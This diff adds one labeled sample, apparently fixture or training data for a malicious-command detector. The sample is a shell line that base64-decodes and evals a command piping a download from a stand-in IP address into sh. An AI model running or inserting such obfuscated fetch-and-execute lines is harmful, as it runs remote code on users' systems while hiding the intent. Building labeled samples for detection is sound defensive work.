@@ -1,0 +1,2 @@
+# label: malicious; obfuscated: base64
+eval "$(echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNo | base64 --decode)"
